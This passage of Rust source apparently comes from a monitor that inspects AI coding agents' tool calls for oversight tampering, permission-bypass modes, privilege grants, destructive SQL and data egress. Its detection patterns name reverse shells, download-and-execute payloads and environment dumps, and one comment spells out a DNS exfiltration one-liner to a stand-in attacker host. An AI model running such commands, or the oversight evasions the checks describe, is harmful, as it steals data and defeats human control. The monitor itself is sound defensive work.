    fn patch_updates(&mut self, patch: &str) {
        let mut current: Option<(&str, String, String)> = None;
        let lines = patch.lines().take(10_000).chain(std::iter::once("*** End"));
        for line in lines {
            if line.starts_with("*** ") {
                if let Some((p, removed, added)) = current.take() {
                    let n = self.norm(p);
                    if paths::agent_settings(&n).is_some()
                        && !weakens_oversight_settings(&removed, &added)
                    {
                        self.f.targets.paths.insert(n.clone());
                        self.f.write_paths.insert(n);
                    } else {
                        self.path(p, Access::Write);
                    }
                }
                if let Some(p) = line.strip_prefix("*** Update File: ") {
                    current = Some((p, String::new(), String::new()));
                }
            } else if let Some((_, removed, added)) = current.as_mut() {
                if let Some(r) = line.strip_prefix('-') {
                    removed.push_str(r);
                    removed.push('\n');
                } else if let Some(a) = line.strip_prefix('+') {
                    added.push_str(a);
                    added.push('\n');
                }
            }
        }
    }

    /// A write whose new text makes an administrator-equivalent grant the old text did not
    /// (a ClusterRole on `*`, `AdministratorAccess` in Terraform or CDK, `roles/owner`).
    fn written_grant(&mut self, path: &str, old: &str, new: &str) {
        if grants::documentation(path) {
            return;
        }
        if let Some(why) = grants::admin_grant_in_code(new) {
            if grants::admin_grant_in_code(old) != Some(why) {
                self.f.flag(Flag::PrivilegeEscalation, why);
            }
        }
    }

    /// The lines an `apply_patch` adds and removes, per file, judged like an edit.
    fn patch_grants(&mut self, patch: &str) {
        let mut file = "";
        let (mut removed, mut added) = (String::new(), String::new());
        let lines = patch.lines().take(10_000).chain(std::iter::once("*** End"));
        for line in lines {
            if line.starts_with("*** ") {
                if !added.is_empty() {
                    self.written_grant(file, &removed, &added);
                }
                removed.clear();
                added.clear();
                file = line
                    .strip_prefix("*** Add File: ")
                    .or_else(|| line.strip_prefix("*** Update File: "))
                    .unwrap_or(file);
            } else if let Some(r) = line.strip_prefix('-') {
                removed.push_str(r);
                removed.push('\n');
            } else if let Some(a) = line.strip_prefix('+') {
                added.push_str(a);
                added.push('\n');
            }
        }
    }

    /// Deleting, moving away or renaming a hook program silences the hooks that run it.
    fn hook_program_removed(&mut self, raw: &str, n: &str) {
        if let Some(kind) = paths::hook_program(n) {
            self.f.flag(
                Flag::OversightTamper,
                format!("removes {kind} ({})", display_path(raw, n)),
            );
        }
    }

    fn url(&mut self, u: &str) {
        if self.f.targets.urls.len() >= 64 {
            return;
        }
        self.f.targets.urls.insert(u.to_owned());
        if let Some(h) = url_host(u) {
            let upstream = self.ov.mcp_upstreams.iter().any(|m| {
                let m = m.trim_end_matches('/');
                u.starts_with(m)
                    || url_host(m).as_deref() == Some(h.as_str())
                    || m.eq_ignore_ascii_case(&h)
            });
            if upstream {
                self.f.flag(
                    Flag::OversightTamper,
                    format!("calls MCP upstream {h} directly, around the gateway"),
                );
            }
            self.f.targets.hosts.insert(h);
        }
    }

    fn host(&mut self, h: &str) {
        if let Some(d) = as_domain(h).or_else(|| {
            let ip = h.trim_matches(|c| c == '[' || c == ']');
            ip.parse::<std::net::IpAddr>().ok().map(|_| ip.to_owned())
        }) {
            self.f.targets.hosts.insert(d);
        }
    }

    fn email(&mut self, e: String) {
        if let Some((_, d)) = e.split_once('@') {
            self.f.targets.email_domains.insert(d.to_owned());
        }
        self.f.targets.emails.insert(e);
    }

    // -----------------------------------------------------------------------------------------
    // Generic (MCP and unknown) tools.

    /// Cloud accounts named as principals (`arn:aws:iam::123456789012:root` in a bucket or key
    /// policy, a role trust): access granted to an account is access granted to whoever holds
    /// it, so the account is a target like a recipient.
    fn cloud_principals(&mut self, args: &Value) {
        each_string(args, &mut |s| {
            let mut rest = s;
            while let Some(i) = rest.find("arn:aws") {
                let arn = &rest[i..];
                let account = arn.split(':').nth(4).unwrap_or("");
                if account.len() == 12
                    && account.bytes().all(|b| b.is_ascii_digit())
                    && self.f.targets.accounts.len() < 64
                {
                    self.f.targets.accounts.insert(account.to_owned());
                }
                rest = &arn[7..];
            }
        });
    }

    fn generic_tool(&mut self, tool: &ToolRef, args: &Value, ann: Option<&ToolAnnotations>) {
        let words = tool.words();
        let has = |set: &[&str]| words.iter().any(|w| set.contains(&w.as_str()));
        let first = words.first().map(String::as_str).unwrap_or("");

        // 1. annotations
        if let Some(ann) = ann {
            if ann.read_only_hint == Some(true) {
                self.set_effect(Effect::Read, EffectSource::Annotation);
            } else {
                if ann.destructive_hint == Some(true) {
                    self.f
                        .flag(Flag::Destructive, "declared destructive (destructiveHint)");
                }
                let named_egress = has(EGRESS_VERBS);
                if ann.read_only_hint == Some(false) || ann.destructive_hint == Some(true) {
                    let e = if named_egress {
                        Effect::Egress
                    } else {
                        Effect::Write
                    };
                    self.set_effect(e, EffectSource::Annotation);
                } else if ann.open_world_hint == Some(true) && named_egress {
                    self.set_effect(Effect::Egress, EffectSource::Annotation);
                }
            }
        }

        // 2. name
        let name_effect = if EGRESS_VERBS.contains(&first) {
            Some(Effect::Egress)
        } else if WRITE_VERBS.contains(&first) {
            Some(Effect::Write)
        } else if EXEC_VERBS.contains(&first) {
            Some(Effect::Execute)
        } else if READ_VERBS.contains(&first) {
            Some(Effect::Read)
        } else if has(EGRESS_VERBS) {
            Some(Effect::Egress)
        } else if has(WRITE_VERBS) {
            Some(Effect::Write)
        } else if has(EXEC_VERBS) {
            Some(Effect::Execute)
        } else if has(READ_VERBS) {
            Some(Effect::Read)
        } else {
            None
        };
        // A write whose object is published text (gist, paste, issue/PR comment, review).
        let publishes = matches!(name_effect, Some(Effect::Write) | None)
            && (first == "comment"
                || (PUBLISH_MAKING_VERBS.contains(&first)
                    && words
                        .iter()
                        .skip(1)
                        .any(|w| PUBLISH_OBJECTS.contains(&w.as_str()))));
        let name_effect = if publishes {
            Some(Effect::Egress)
        } else {
            name_effect
        };
        let annotated_write =
            matches!(self.effect, Some((Effect::Write, EffectSource::Annotation)));
        if self.effect.is_none() || (publishes && annotated_write) {
            if let Some(e) = name_effect {
                self.set_effect(e, EffectSource::Name);
            }
        }
        let read_only_declared = ann.is_some_and(|a| a.read_only_hint == Some(true));
        if !read_only_declared
            && (DESTRUCTIVE_VERBS.contains(&first)
                || (has(DESTRUCTIVE_VERBS) && name_effect == Some(Effect::Write)))
        {
            self.f.flag(
                Flag::Destructive,
                format!("{} deletes or destroys", tool.tool),
            );
        }

        // SQL passed to a database tool: a statement that deletes rows or drops objects
        if !read_only_declared {
            let mut destroys: Option<String> = None;
            each_string(args, &mut |s| {
                let head = s.trim_start().get(..12).unwrap_or(s.trim_start());
                let head = head.to_ascii_lowercase();
                let sql_text = [
                    "delete", "drop", "truncate", "with", "begin", "update", "insert", "alter",
                    "select", "--", "/*",
                ]
                .iter()
                .any(|k| head.starts_with(k));
                if destroys.is_none() && sql_text {
                    destroys = crate::intent::mutating_sql(s)
                        .into_iter()
                        .find(|(k, _)| *k == crate::intent::IntentAction::Delete)
                        .map(|(_, stmt)| {
                            stmt.split_whitespace()
                                .take(3)
                                .collect::<Vec<_>>()
                                .join(" ")
                        });
                }
            });
            let mut grants: Option<String> = None;
            each_string(args, &mut |s| {
                if grants.is_none() {
                    grants = sql_grants_privilege(s);
                }
            });
            if let Some(why) = grants {
                self.f.flag(
                    Flag::PrivilegeEscalation,
                    format!("{} runs SQL that {why}", tool.tool),
                );
            }
            if let Some(stmt) = destroys {
                self.f.flag(
                    Flag::Destructive,
                    format!("{} runs a destructive SQL statement ({stmt} …)", tool.tool),
                );
                self.set_effect(Effect::Write, EffectSource::Arguments);
            }
        }

        // 3. arguments
        let mut pending_paths: Vec<String> = Vec::new();
        let mut recipient_like = false;
        let mut elevated: Option<String> = None;
        self.walk_args(
            "",
            args,
            0,
            &mut pending_paths,
            &mut recipient_like,
            &mut elevated,
        );
        if self.effect.is_none() && recipient_like {
            self.set_effect(Effect::Egress, EffectSource::Arguments);
        }
        let effect = self.effect.map(|e| e.0).unwrap_or(Effect::Unknown);
        let access = match effect {
            Effect::Read | Effect::Unknown | Effect::Egress => Access::Read,
            Effect::Write if has(DESTRUCTIVE_VERBS) => Access::Delete,
            Effect::Write => Access::Write,
            Effect::Execute => Access::Read,
        };
        for p in pending_paths {
            self.path(&p, access);
        }
        if effect == Effect::Egress && !self.f.targets.hosts.is_empty() {
            // a URL-carrying egress call
        }

        // privilege: granting rights or minting broader credentials
        if !read_only_declared {
            let revokes = words.iter().any(|w| {
                matches!(
                    w.as_str(),
                    "remove" | "revoke" | "delete" | "list" | "get" | "check"
                )
            });
            let grant = has(GRANT_VERBS) && has(GRANT_OBJECTS);
            let token = has(TOKEN_VERBS) && has(TOKEN_OBJECTS);
            if !revokes && (grant || token) {
                let why = match &elevated {
                    Some(v) => format!("{} grants rights ({v})", tool.tool),
                    None => format!("{} grants rights or credentials", tool.tool),
                };
                self.f.flag(Flag::PrivilegeEscalation, why);
            } else if !revokes && matches!(effect, Effect::Write | Effect::Unknown) {
                if let Some(v) = &elevated {
                    self.f.flag(
                        Flag::PrivilegeEscalation,
                        format!("{} sets an elevated role ({v})", tool.tool),
                    );
                }
            }
        }
        // permission-mode switches passed as arguments
        let mut mode_switch = false;
        each_string(args, &mut |s| mode_switch |= permission_mode_text(s));
        if mode_switch {
            self.f.flag(
                Flag::PrivilegeEscalation,
                "switches an agent to a permission-bypassing mode",
            );
            self.f.flag(
                Flag::OversightTamper,
                "switches an agent to a permission-bypassing mode",
            );
        }
    }

    fn walk_args(
        &mut self,
        key: &str,
        v: &Value,
        depth: u8,
        pending: &mut Vec<String>,
        recipient_like: &mut bool,
        elevated: &mut Option<String>,
    ) {
        if depth > 6 {
            return;
        }
        match v {
            Value::String(s) => self.string_arg(key, s, pending, recipient_like, elevated),
            Value::Number(n) => {
                let k = key.to_ascii_lowercase();
                if ACCOUNT_KEYS.contains(&k.as_str()) {
                    if let Some(a) = as_account(&n.to_string()) {
                        self.f.targets.accounts.insert(a);
                        *recipient_like = true;
                    }
                }
            }
            Value::Array(a) => {
                for x in a.iter().take(256) {
                    self.walk_args(key, x, depth + 1, pending, recipient_like, elevated);
                }
            }
            Value::Object(o) => {
                for (k, x) in o.iter().take(256) {
                    self.walk_args(k, x, depth + 1, pending, recipient_like, elevated);
                }
            }
            _ => {}
        }
    }

    fn string_arg(
        &mut self,
        key: &str,
        s: &str,
        pending: &mut Vec<String>,
        recipient_like: &mut bool,
        elevated: &mut Option<String>,
    ) {
        let k = key.to_ascii_lowercase();
        let k = k.as_str();
        let t = s.trim();
        if t.is_empty() {
            return;
        }
        if matches!(
            k,
            "permission"
                | "permissions"
                | "role"
                | "roles"
                | "access_level"
                | "access"
                | "level"
                | "scope"
                | "scopes"
                | "privilege"
                | "group"
                | "groups"
                | "groupname"
                | "group_name"
                | "groupid"
                | "group_id"
                | "membership"
        ) {
            let lower = t.to_ascii_lowercase();
            if ELEVATED_VALUES
                .iter()
                .any(|e| lower == *e || lower.split([' ', ',']).any(|p| p == *e))
                || elevated_words(&lower)
            {
                *elevated = Some(format!("{k}={lower}"));
            }
        }
        let is_url = t.contains("://") && t.len() < 4096;
        if is_url && (URL_KEYS.contains(&k) || !t.contains(char::is_whitespace)) {
            for u in find_urls(t) {
                // prose in a query value (`?ctx=My key sk-… gets errors`) is data sent out by
                // loading the URL, whatever tool loads it
                if url_query(&u)
                    .iter()
                    .any(|(_, v)| v.len() >= 20 && v.split_whitespace().count() >= 3)
                {
                    self.f
                        .flag(Flag::Egress, "loads a URL whose query carries text");
                }
                self.url(&u);
            }
            if URL_KEYS.contains(&k) {
                *recipient_like = true;
            }
            return;
        }
        if RECIPIENT_KEYS.contains(&k) {
            for part in t.split([',', ';', ' ']) {
                if let Some(e) = as_email(part) {
                    self.email(e);
                    *recipient_like = k != "from";
                }
            }
        } else if let Some(e) = as_email(t).filter(|_| !t.contains(' ')) {
            self.email(e);
        }
        if ACCOUNT_KEYS.contains(&k) {
            if let Some(a) = as_account(t).or_else(|| crate::text::iban_shaped(t)) {
                self.f.targets.accounts.insert(a);
                *recipient_like = true;
            }
        } else if t.len() >= 15 && t.len() <= 42 {
            if let Some(a) = as_account(t).filter(|a| a.len() >= 15) {
                self.f.targets.accounts.insert(a);
            }
        }
        if USER_KEYS.contains(&k) && t.len() <= 100 && !t.contains(char::is_whitespace) {
            let u = t.trim_start_matches('@').to_ascii_lowercase();
            if as_email(&u).is_none() {
                self.f.targets.usernames.insert(u);
            }
            if matches!(k, "channel" | "channel_id" | "chat_id" | "room") {
                *recipient_like = true;
            }
        }
        if HOST_KEYS.contains(&k) {
            self.host(t);
        }
        if PATH_KEYS.contains(&k) && !t.contains('\n') && t.len() < 4096 && as_email(t).is_none() {
            pending.push(t.to_owned());
        }
    }

    // -----------------------------------------------------------------------------------------
    // Known coding-agent tools.

    fn known_tool(&mut self, k: KnownTool, args: &Value) {
        let s = |key: &str| args.get(key).and_then(Value::as_str);
        let name = EffectSource::Name;
        match k {
            KnownTool::Bash => {
                let cmd = match args.get("command").or_else(|| args.get("cmd")) {
                    Some(Value::String(c)) => c.clone(),
                    Some(Value::Array(parts)) => {
                        let parts: Vec<&str> = parts.iter().filter_map(Value::as_str).collect();
                        // Codex: ["bash", "-lc", "<script>"]
                        if parts.len() == 3
                            && shell_like(parts[0])
                            && parts[1].ends_with('c')
                            && parts[1].starts_with('-')
                        {
                            parts[2].to_owned()
                        } else {
                            parts
                                .iter()
                                .map(|p| shell_quote(p))
                                .collect::<Vec<_>>()
                                .join(" ")
                        }
                    }
                    _ => String::new(),
                };
                let script = shell::parse(&cmd);
                self.shell(&script, &cmd);
                // the same script with its simple variables inlined (`H=…; curl https://$H`)
                if let Some(inlined) = shell::inline_assignments(&cmd) {
                    self.shell(&shell::parse(&inlined), &inlined);
                }
                // PowerShell cmdlets run directly (a Windows agent's shell): analyze what they do
                if shell::looks_powershell(&cmd)
                    && !script.inline_code.iter().any(|c| c.lang == "powershell")
                {
                    let sh = shell::powershell_to_sh(&cmd);
                    self.shell(&shell::parse(&sh), &sh);
                }
                // cmd.exe built-ins (`rd /s /q`, `robocopy /MIR`): analyze what they do
                if shell::looks_cmd(&cmd) {
                    let sh = shell::cmd_to_sh(&cmd);
                    self.shell(&shell::parse(&sh), &sh);
                }
                self.settings_rewritten_by_code(&cmd);
                let line = cmd.split_whitespace().collect::<Vec<_>>().join(" ");
                let line = line.trim_end_matches(['&', ';', ' ']);
                if !line.is_empty() && line.len() <= 4096 {
                    self.f.command_line = Some(line.to_owned());
                }
            }
            KnownTool::Read => {
                self.set_effect(Effect::Read, name);
                for key in ["file_path", "path", "absolute_path"] {
                    if let Some(p) = s(key) {
                        self.path(p, Access::Read);
                    }
                }
                if let Some(Value::Array(ps)) = args.get("paths") {
                    for p in ps.iter().filter_map(Value::as_str).take(64) {
                        self.path(p, Access::Read);
                    }
                }
            }
            KnownTool::Write | KnownTool::Edit | KnownTool::MultiEdit | KnownTool::NotebookEdit => {
                self.set_effect(Effect::Write, name);
                let path = s("file_path")
                    .or_else(|| s("path"))
                    .or_else(|| s("notebook_path"))
                    .or_else(|| s("absolute_path"));
                let mut texts: Vec<&str> = Vec::new();
                for key in [
                    "content",
                    "new_string",
                    "old_string",
                    "new_source",
                    "new_str",
                    "old_str",
                    "file_text",
                ] {
                    if let Some(t) = s(key) {
                        texts.push(t);
                    }
                }
                if let Some(Value::Array(edits)) = args.get("edits") {
                    for e in edits.iter().take(64) {
                        for key in ["new_string", "old_string"] {
                            if let Some(t) = e.get(key).and_then(Value::as_str) {
                                texts.push(t);
                            }
                        }
                    }
                }
                let whole_file = matches!(k, KnownTool::Write) || s("command") == Some("create");
                if let Some(p) = path {
                    let n = self.norm(p);
                    let settings = paths::agent_settings(&n);
                    let old_text = s("old_string").or_else(|| s("old_str")).unwrap_or("");
                    let new_text = s("new_string").or_else(|| s("new_str")).unwrap_or("");
                    let mut weakens = weakens_oversight_settings(old_text, new_text);
                    if let Some(Value::Array(edits)) = args.get("edits") {
                        for e in edits.iter().take(64) {
                            let o = e.get("old_string").and_then(Value::as_str).unwrap_or("");
                            let n = e.get("new_string").and_then(Value::as_str).unwrap_or("");
                            weakens |= weakens_oversight_settings(o, n);
                        }
                    }
                    if paths::mcp_client_config(&n).is_some() {
                        let mut reroutes = reroutes_mcp_server(old_text, new_text);
                        if let Some(Value::Array(edits)) = args.get("edits") {
                            for e in edits.iter().take(64) {
                                let o = e.get("old_string").and_then(Value::as_str).unwrap_or("");
                                let n = e.get("new_string").and_then(Value::as_str).unwrap_or("");
                                reroutes |= reroutes_mcp_server(o, n);
                            }
                        }
                        if reroutes {
                            self.f.flag(
                                Flag::OversightTamper,
                                format!(
                                    "points an MCP server in {} away from the local gateway",
                                    display_path(p, &n)
                                ),
                            );
                        }
                    }
                    let new_text = s("content")
                        .or_else(|| s("contents"))
                        .or_else(|| s("file_text"))
                        .unwrap_or("");
                    let keeps_monitor = whole_file
                        && settings.is_some_and(|k| !k.starts_with("Warden"))
                        && keeps_monitor_hooks(new_text);
                    if settings.is_some() && (!whole_file || keeps_monitor) && !weakens {
                        // an edit of unrelated settings (model, theme): a plain write
                        self.f.targets.paths.insert(n.clone());
                        self.f.write_paths.insert(n);
                    } else {
                        self.path(p, Access::Write);
                    }
                }
                let edits: Vec<(&str, &str)> = match args.get("edits") {
                    Some(Value::Array(edits)) => edits
                        .iter()
                        .take(64)
                        .map(|e| {
                            (
                                e.get("old_string").and_then(Value::as_str).unwrap_or(""),
                                e.get("new_string").and_then(Value::as_str).unwrap_or(""),
                            )
                        })
                        .collect(),
                    _ => vec![(
                        s("old_string").or_else(|| s("old_str")).unwrap_or(""),
                        s("new_string")
                            .or_else(|| s("new_str"))
                            .or_else(|| s("content"))
                            .or_else(|| s("contents"))
                            .or_else(|| s("file_text"))
                            .unwrap_or(""),
                    )],
                };
                let settings_file = path.is_some_and(|p| {
                    let n = self.norm(p);
                    paths::agent_settings(&n).is_some()
                });
                if settings_file {
                    if let Some((key, mode)) =
                        edits.iter().find_map(|(o, n)| weakened_setting(o, n))
                    {
                        self.f.flag(
                            Flag::OversightTamper,
                            format!("turns off or loosens agent setting {key}"),
                        );
                        if mode {
                            self.f.flag(
                                Flag::PrivilegeEscalation,
                                format!("sets agent setting {key} to a permissive mode"),
                            );
                        }
                    }
                }
                for (o, n) in &edits {
                    self.written_grant(path.unwrap_or(""), o, n);
                    if settings_file {
                        if let Some(rule) = allows_everything(o, n) {
                            self.f.flag(
                                Flag::PrivilegeEscalation,
                                format!("adds the allow rule {rule}: every call without approval"),
                            );
                        }
                    }
                }
                if texts.iter().any(|t| permission_mode_text(t)) {
                    self.f.flag(
                        Flag::PrivilegeEscalation,
                        "writes a permission-bypassing mode into settings",
                    );
                    self.f.flag(
                        Flag::OversightTamper,
                        "writes a permission-bypassing mode into settings",
                    );
                }
                if texts.iter().any(|t| t.contains("disableAllHooks")) {
                    self.f
                        .flag(Flag::OversightTamper, "disables all agent hooks");
                }
            }
            KnownTool::ApplyPatch => {
                self.set_effect(Effect::Write, name);
                let patch = s("input")
                    .or_else(|| s("patch"))
                    .or_else(|| s("command"))
                    .unwrap_or("");
                for line in patch.lines().take(10_000) {
                    for (prefix, access) in [
                        ("*** Add File: ", Access::Write),
                        ("*** Delete File: ", Access::Delete),
                        ("*** Move to: ", Access::Write),
                    ] {
                        if let Some(p) = line.strip_prefix(prefix) {
                            self.path(p, access);
                        }
                    }
                }
                self.patch_updates(patch);
                self.patch_grants(patch);
                if permission_mode_text(patch) {
                    self.f.flag(
                        Flag::PrivilegeEscalation,
                        "writes a permission-bypassing mode",
                    );
                    self.f
                        .flag(Flag::OversightTamper, "writes a permission-bypassing mode");
                }
            }
            KnownTool::Glob | KnownTool::Ls => {
                self.set_effect(Effect::Read, name);
                if let Some(p) = s("path") {
                    self.path(p, Access::Meta);
                }
            }
            KnownTool::Grep => {
                self.set_effect(Effect::Read, name);
                if let Some(p) = s("path") {
                    self.path(p, Access::Read);
                }
            }
            KnownTool::WebFetch => {
                self.set_effect(Effect::Read, name);
                // Gemini CLI's web_fetch takes no `url`: its `prompt` names the pages to fetch
                let prompt_urls = match s("url") {
                    Some(_) => Vec::new(),
                    None => s("prompt").map(crate::text::find_urls).unwrap_or_default(),
                };
                for u in prompt_urls.iter().take(20) {
                    self.url(u);
                }
                if let Some(u) = s("url") {
                    self.url(u);
                    let q = url_query(u);
                    if q.iter().any(|(k, v)| !k.is_empty() || !v.is_empty()) {
                        self.set_effect(Effect::Egress, EffectSource::Arguments);
                        self.f
                            .flag(Flag::Egress, "fetch carries data in its query string");
                        for (_, v) in q {
                            if looks_like_path(&v) {
                                let n = self.norm(&v);
                                self.f.targets.paths.insert(n);
                            }
                        }
                    }
                }
            }
            KnownTool::WebSearch => self.set_effect(Effect::Read, name),
            KnownTool::Task => self.set_effect(Effect::Execute, name),
            KnownTool::TodoWrite => self.set_effect(Effect::Read, name),
        }
    }

    // -----------------------------------------------------------------------------------------
    // Shell.

    fn shell(&mut self, script: &Script, raw: &str) {
        let src = EffectSource::Arguments;
        if self.script_text.is_empty() {
            self.script_text = raw.to_owned();
        }
        if script.pipelines.is_empty() {
            self.set_effect(Effect::Read, src);
        }
        let lower_raw = raw.to_ascii_lowercase();
        for p in &script.pipelines {
            for (i, c) in p.commands.iter().enumerate() {
                let e = self.command(c, i, &p.commands);
                self.set_effect(e, src);
            }
            self.pipeline_remote_code(&p.commands);
        }
        for code in &script.inline_code {
            self.inline_code(&code.lang, &code.code);
        }
        if !script.decoded.is_empty() {
            let executed = script.commands().any(|c| {
                let prog = c.program();
                shell_like(&prog) || prog == "eval" || interpreter(&prog)
            });
            if executed {
                self.f
                    .flag(Flag::RemoteCode, "decodes and executes an encoded payload");
                self.f.flag(
                    Flag::DangerousCommand,
                    "decodes and executes an encoded payload",
                );
            }
        }
        // text-level patterns; a decoded payload (`echo <hex> | xxd -r -p | bash`) is text the
        // script runs too, so its reverse shell names its host like a plain one
        let lower_raw = if script.decoded.is_empty() {
            lower_raw
        } else {
            let mut t = lower_raw;
            for d in &script.decoded {
                t.push('\n');
                t.push_str(&d.to_ascii_lowercase());
            }
            t
        };
        if lower_raw.contains("/dev/tcp/") || lower_raw.contains("/dev/udp/") {
            self.f.flag(
                Flag::DangerousCommand,
                "opens a reverse shell over /dev/tcp",
            );
            self.f
                .flag(Flag::RemoteCode, "opens a reverse shell over /dev/tcp");
            self.f.flag(Flag::Egress, "connects out over /dev/tcp");
            for marker in ["/dev/tcp/", "/dev/udp/"] {
                for (i, _) in lower_raw.match_indices(marker).take(4) {
                    let rest = &lower_raw[i + marker.len()..];
                    let host: String = rest
                        .chars()
                        .take_while(|c| c.is_ascii_alphanumeric() || matches!(c, '.' | '-' | ':'))
                        .collect();
                    if host.len() >= 3 && self.f.targets.hosts.len() < 64 {
                        self.f.targets.hosts.insert(host);
                    }
                }
            }
        }
        if fork_bomb(raw) {
            self.f.flag(Flag::DangerousCommand, "fork bomb");
        }
        if lower_raw.contains("passwordvault")
            && (lower_raw.contains("retrievepassword") || lower_raw.contains("retrieveall"))
        {
            self.f.flag(
                Flag::CredentialStoreRead,
                "reads the Windows credential vault (PasswordVault)",
            );
        }
        self.sweep_loop_reads(script);
        if kills_port_holder(script, GATEWAY_PORT) {
            self.f.flag(
                Flag::OversightTamper,
                format!("kills the process holding port {GATEWAY_PORT}, the Warden gateway's"),
            );
        }
        if lower_raw.contains("mkfifo")
            && script.commands().any(|c| {
                matches!(
                    c.program().as_str(),
                    "nc" | "ncat" | "netcat" | "telnet" | "openssl"
                )
            })
        {
            self.f
                .flag(Flag::DangerousCommand, "named-pipe reverse shell");
            self.f.flag(Flag::RemoteCode, "named-pipe reverse shell");
        }
        if (lower_raw.contains("iex") || lower_raw.contains("invoke-expression"))
            && (lower_raw.contains("downloadstring")
                || lower_raw.contains("iwr ")
                || lower_raw.contains("invoke-webrequest")
                || lower_raw.contains("irm "))
        {
            self.f
                .flag(Flag::RemoteCode, "executes a downloaded PowerShell script");
            self.f.flag(
                Flag::DangerousCommand,
                "executes a downloaded PowerShell script",
            );
        }
        if (lower_raw.contains("\"jsonrpc\"") || lower_raw.contains("'jsonrpc'"))
            && lower_raw.contains("tools/call")
        {
            self.f.flag(
                Flag::OversightTamper,
                "calls an MCP server directly, around the gateway",
            );
        }
        if permission_mode_text(raw) {
            self.f.flag(
                Flag::PrivilegeEscalation,
                "switches an agent to a permission-bypassing mode",
            );
            self.f.flag(
                Flag::OversightTamper,
                "switches an agent to a permission-bypassing mode",
            );
        }
    }

    fn pipeline_remote_code(&mut self, cmds: &[Command]) {
        let mut downloader: Option<String> = None;
        let mut decoder = false;
        for c in cmds {
            let prog = c.program();
            if is_downloader(c) {
                downloader = Some(prog.clone());
                continue;
            }
            if matches!(prog.as_str(), "base64" | "openssl" | "xxd")
                && c.args()
                    .iter()
                    .any(|a| a == "-d" || a == "--decode" || a == "-r" || a == "-D")
            {
                decoder = true;
            }
            let sink = shell_like(&prog)
                || interpreter(&prog)
                || matches!(prog.as_str(), "source" | "." | "eval" | "iex");
            if sink && c.args().iter().all(|a| a.starts_with('-') || a == "-") {
                if let Some(d) = &downloader {
                    let why = format!("pipes a download ({d}) into {prog}");
                    self.f.flag(Flag::RemoteCode, why.clone());
                    self.f.flag(Flag::DangerousCommand, why);
                } else if decoder {
                    self.f
                        .flag(Flag::RemoteCode, "pipes a decoded payload into a shell");
                    self.f.flag(
                        Flag::DangerousCommand,
                        "pipes a decoded payload into a shell",
                    );
                }
            }
        }
    }

    fn inline_code(&mut self, lang: &str, code: &str) {
        if lang == "powershell" {
            let sh = shell::powershell_to_sh(code);
            if sh.len() < code.len() * 2 + 64 {
                self.shell(&shell::parse(&sh), &sh);
            }
        }
        let lower = code.to_ascii_lowercase();
        for u in find_urls(code) {
            self.url(&u);
        }
        let deletes = [
            "rmtree",
            "os.remove",
            "os.unlink",
            "unlinksync",
            "rmsync",
            "fs.rm",
            "file::delete",
            "fileutils.rm",
        ]
        .iter()
        .any(|k| lower.contains(k));
        for lit in shell::string_literals(code) {
            if lit.len() > 1
                && looks_like_path(&lit)
                && lit != "./"
                && !lit.contains('%')
                && !lit.contains('{')
            {
                let n = self.path(
                    &lit,
                    if deletes {
                        Access::Delete
                    } else {
                        Access::Read
                    },
                );
                if deletes && paths::catastrophic_delete_target(&n, self.p) {
                    self.f
                        .flag(Flag::DangerousCommand, format!("{lang} code deletes {n}"));
                }
            }
        }
        if deletes {
            if let Some(what) = deletes_home_or_root(&lower) {
                // the same object as `rm -rf ~` / `rm -rf /`, for intent signatures
                let target = if what == "the home directory" {
                    self.p.home.map(str::to_owned)
                } else {
                    Some("/".to_owned())
                };
                if let Some(t) = target {
                    if self.f.targets.paths.len() < 128 {
                        self.f.targets.paths.insert(t.clone());
                        self.f.write_paths.insert(t);
                    }
                }
                self.f.flag(
                    Flag::DangerousCommand,
                    format!("{lang} code deletes {what}"),
                );
                self.f
                    .flag(Flag::Destructive, format!("{lang} code deletes {what}"));
            }
        }
        let net = lower.contains("socket")
            || lower.contains("urlopen")
            || lower.contains("requests.")
            || lower.contains("httpx")
            || lower.contains("fetch(")
            || lower.contains("http.client")
            || lower.contains("net::http")
            || lower.contains("lwp::")
            || lower.contains("fsockopen")
            || lower.contains("tcpsocket")
            || lower.contains("smtplib")
            || lower.contains("http.request")
            || lower.contains("https.request")
            || lower.contains("axios");
        let sends = lower.contains("requests.post")
            || lower.contains("requests.put")
            || lower.contains("requests.patch")
            || lower.contains("httpx.post")
            || lower.contains("httpx.put")
            || lower.contains(".post(")
            || lower.contains("data=")
            || lower.contains("json=")
            || lower.contains("files=")
            || lower.contains("smtplib")
            || lower.contains("sendmail")
            || lower.contains(".send(")
            || lower.contains("sendall")
            || lower.contains("method: 'post'")
            || lower.contains("method:\"post\"")
            || lower.contains("method: \"post\"")
            || lower.contains("method:'post'")
            || lower.contains("'post'")
            || lower.contains("\"post\"")
            || urlopen_with_data(&lower);
        if net && sends {
            self.set_effect(Effect::Egress, EffectSource::Arguments);
            self.f.flag(
                Flag::Egress,
                format!("{lang} code sends data over the network"),
            );
        }
        let shell_spawn = lower.contains("subprocess")
            || lower.contains("pty.spawn")
            || lower.contains("os.dup2")
            || lower.contains("/bin/sh")
            || lower.contains("/bin/bash")
            || lower.contains("exec(")
            || lower.contains("system(")
            || lower.contains("spawn(")
            || lower.contains("cmd.exe");
        if (lower.contains("socket")
            || lower.contains("fsockopen")
            || lower.contains("tcpsocket")
            || lower.contains("tcpclient"))
            && shell_spawn
            && (lower.contains("connect")
                || lower.contains("fsockopen")
                || lower.contains("tcpsocket.new")
                || lower.contains("tcpclient"))
        {
            self.f
                .flag(Flag::DangerousCommand, format!("{lang} reverse shell"));
            self.f
                .flag(Flag::RemoteCode, format!("{lang} reverse shell"));
        }
        if runs_code_text(&lower) && fetches_code(&lower) {
            self.f.flag(
                Flag::RemoteCode,
                format!("{lang} code executes downloaded code"),
            );
            self.f.flag(
                Flag::DangerousCommand,
                format!("{lang} code executes downloaded code"),
            );
        }
        self.set_effect(Effect::Execute, EffectSource::Arguments);
    }

    /// One simple command; returns its effect.
    fn command(&mut self, c: &Command, idx: usize, pipeline: &[Command]) -> Effect {
        let prog = c.program();
        let args = c.args();
        if prog.is_empty() {
            // assignments / redirects only
            self.env_and_redirects(c);
            return Effect::Read;
        }
        if self.f.targets.commands.len() < 64 {
            self.f.targets.commands.insert(prog.clone());
        }
        if dumps_environment(&prog, args, pipeline.get(idx + 1)) {
            self.f.flag(
                Flag::CredentialStoreRead,
                "dumps the whole process environment (its tokens and keys)",
            );
        }
        // a DNS lookup of a name built from command output sends that output to the name's
        // authoritative server (`dig $(cat secret | base64).attacker.example`)
        if matches!(
            prog.as_str(),
            "dig" | "nslookup" | "host" | "drill" | "ping"
        ) {
            for a in args.iter().filter(|a| !a.starts_with(['-', '+', '@'])) {
